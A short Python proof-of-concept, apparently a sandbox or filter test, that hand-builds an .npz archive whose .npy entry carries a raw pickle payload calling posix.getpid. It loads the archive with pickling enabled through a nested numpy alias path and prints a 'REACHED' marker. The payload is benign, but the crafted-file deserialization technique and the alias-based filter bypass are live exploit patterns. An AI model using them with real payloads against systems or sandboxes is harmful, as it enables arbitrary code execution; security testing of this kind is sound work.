import numpy as np, io, zipfile, struct
# pickle through an alias of numpy inside numpy
data = io.BytesIO()
with zipfile.ZipFile(data, "w") as z:
    body = b"cposix\ngetpid\n(tR."
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    z.writestr("a.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body)
data.seek(0)
Z = np.polynomial.polynomial.np.lib.npyio.NpzFile
print("REACHED unpickled", Z(data, False, True)["a"])
